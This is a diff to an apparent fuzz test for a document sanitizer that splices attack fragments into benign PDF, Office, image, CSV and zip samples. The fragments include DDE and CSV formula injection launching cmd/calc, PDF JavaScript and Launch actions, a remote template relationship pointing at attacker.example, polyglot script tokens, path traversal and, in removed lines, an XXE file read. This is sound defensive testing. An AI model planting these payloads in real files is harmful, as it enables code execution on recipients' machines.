@@ -6,7 +6,7 @@ each hypothesis example is one batch of mutants and one `cdr sanitize` subproces
 batch: no traceback, exit 0 or 1, a result line per file, no file over its time limit, and
 nothing released that the tests' own inspector flags.
 
-`make test` runs a bounded pass (CDR_FUZZ_EXAMPLES mutants per format, 24 by default);
+`make test` runs a bounded pass (CDR_FUZZ_EXAMPLES mutants per format, 120 by default);
 `make fuzz` runs long (CDR_FUZZ_EXAMPLES=2000). Failing mutants are kept under
 CDR_FUZZ_KEEP (default: the pytest temp folder) so they can become catalogue entries.
 """
@@ -31,7 +31,7 @@ from hypothesis import strategies as st
 from tests.attacks import inspector, runner
 from tests.attacks.builders import archive, images, ooxml, pdf, text
 
-EXAMPLES = int(os.environ.get("CDR_FUZZ_EXAMPLES", "24"))
+EXAMPLES = int(os.environ.get("CDR_FUZZ_EXAMPLES", "120"))
 BATCH = min(EXAMPLES, 60)
 ROUNDS = math.ceil(EXAMPLES / BATCH)
 WALL_TIME_MS = 120_000  # the default policy's limits.wall_time
@@ -43,25 +43,46 @@ class Seed:
     suffix: str
     data: bytes
     tokens: tuple[bytes, ...]  # attack fragments worth splicing in (what a format's attacker writes)
+    anchor: bytes = b""  # where a fragment still parses: after "<<" in a PDF, after ">" in package XML
+
+
+OFFICE_FRAGMENTS = (
+    b'<w:fldSimple w:instr="DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe &quot;/k calc&quot;">'
+    b"<w:r><w:t>x</w:t></w:r></w:fldSimple>",
+    b'<w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText>DDE cmd /c calc</w:instrText></w:r>'
+    b'<w:r><w:fldChar w:fldCharType="end"/></w:r>',
+    b'<w:attachedTemplate r:id="rIdZ"/>',
+    b"<c r=\"Z99\"><f>cmd|' /C calc'!A0</f></c>",
+    b'<definedName name="Auto_Open">EXEC("calc")</definedName>',
+    b'<a:hlinkClick r:id="" action="ppaction://program"/>',
+    b'<Relationship Id="rIdZ" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/'
+    b'attachedTemplate" Target="http://attacker.example/t.dotm" TargetMode="External"/>',
+    b'<Relationship Id="rIdY" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/hyperlink" '
+    b'Target="file:///C:/Windows/System32/calc.exe" TargetMode="External"/>',
+    b'<Override PartName="/word/document.xml" ContentType="application/vnd.ms-word.document.macroEnabled.main+xml"/>',
+    b"&#124;",
+)
+PDF_FRAGMENTS = (
+    b"/OpenAction << /S /JavaScript /JS (app.alert(1)) >>", b"/AA << /O << /S /Launch /F (cmd.exe) >> >>",
+    b"/A << /S /URI /URI (javascript:app.alert(1)) >>", b"/O#70enAction << /S /J#61vaScript /JS (x) >>",
+    b"/Names << /EmbeddedFiles << /Names [(a) << /EF << /F 4 0 R >> >>] >> >>", b"/AcroForm << /XFA 4 0 R >>",
+)
+IMAGE_TOKENS = (b"<script>alert(1)</script>", b"PK\x03\x04", b"\xff\xfe<?php", b"tEXtComment\x00")
 
 
 def _seeds() -> dict[str, Seed]:
     work = Path(tempfile.gettempdir())  # none of these builders runs a tool that needs scratch space
-    office_tokens = (b"DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe", b"cmd|' /C calc'!A0", b'TargetMode="External"',
-                     b"ppaction://program", b"&#124;", b"<!DOCTYPE x [<!ENTITY e SYSTEM 'file:///etc/passwd'>]>")
-    pdf_tokens = (b"/OpenAction << /S /JavaScript /JS (app.alert(1)) >>", b"/AA << /O << /S /Launch /F (cmd.exe) >> >>",
-                  b"/URI (javascript:app.alert(1))", b"/J#61vaScript", b"%%EOF\n<script>", b"/EmbeddedFiles")
-    image_tokens = (b"<script>alert(1)</script>", b"PK\x03\x04", b"\xff\xfe<?php", b"tEXtComment\x00")
+    csv_tokens = (b"=cmd|' /C calc'!A0", b"\t=1+1", "＝1+1".encode(), b",@SUM(1)", b"\r\n-2+3+cmd|'/c calc'!A0,")
     return {
-        "pdf": Seed(".pdf", pdf._raw_pdf(pdf._page_objects(b"/PageMode /UseNone")), pdf_tokens),
-        "png": Seed(".png", images._png(), image_tokens),
-        "jpeg": Seed(".jpg", images._jpeg(), image_tokens),
-        "gif": Seed(".gif", images._gif(), image_tokens),
-        "docx": Seed(".docx", ooxml.docx_harmless_fields(work), office_tokens),
-        "xlsx": Seed(".xlsx", ooxml.xlsx_benign(work), office_tokens),
-        "pptx": Seed(".pptx", ooxml.pptx_benign(work), office_tokens),
-        "csv": Seed(".csv", text.csv_benign(work), (b"=cmd|' /C calc'!A0", b"\t=1+1", "＝1+1".encode(), b",@SUM(1)")),
-        "zip": Seed(".zip", archive.zip_benign(work), image_tokens + (b"../../evil.txt",)),
+        "pdf": Seed(".pdf", pdf._raw_pdf(pdf._page_objects(b"/PageMode /UseNone")), PDF_FRAGMENTS, b"<<"),
+        "png": Seed(".png", images._png(), IMAGE_TOKENS),
+        "jpeg": Seed(".jpg", images._jpeg(), IMAGE_TOKENS),
+        "gif": Seed(".gif", images._gif(), IMAGE_TOKENS),
+        "docx": Seed(".docx", ooxml.docx_harmless_fields(work), OFFICE_FRAGMENTS, b">"),
+        "xlsx": Seed(".xlsx", ooxml.xlsx_benign(work), OFFICE_FRAGMENTS, b">"),
+        "pptx": Seed(".pptx", ooxml.pptx_benign(work), OFFICE_FRAGMENTS, b">"),
+        "csv": Seed(".csv", text.csv_benign(work), csv_tokens, b","),
+        "zip": Seed(".zip", archive.zip_benign(work), IMAGE_TOKENS + (b"../../evil.txt",)),
     }
 
 
@@ -99,7 +120,19 @@ def _token(rng: random.Random, data: bytes, seed: Seed) -> bytes:
     return data[:at] + rng.choice(seed.tokens) + data[at:]
 
 
-BYTE_MUTATIONS = (_flip, _truncate, _splice, _token)
+def _fragment(rng: random.Random, data: bytes, seed: Seed) -> bytes:
+    """Structure-aware: put an attack fragment where the format still parses (after '<<' or '>')."""
+    if not seed.anchor or seed.anchor not in data:
+        return _token(rng, data, seed)
+    at, found = 0, []
+    while (at := data.find(seed.anchor, at)) >= 0 and len(found) < 5000:
+        found.append(at + len(seed.anchor))
+        at += 1
+    place = rng.choice(found)
+    return data[:place] + rng.choice(seed.tokens) + data[place:]
+
+
+BYTE_MUTATIONS = (_flip, _truncate, _splice, _token, _fragment, _fragment)
 
 
 def _in_member(rng: random.Random, data: bytes, seed: Seed) -> bytes:
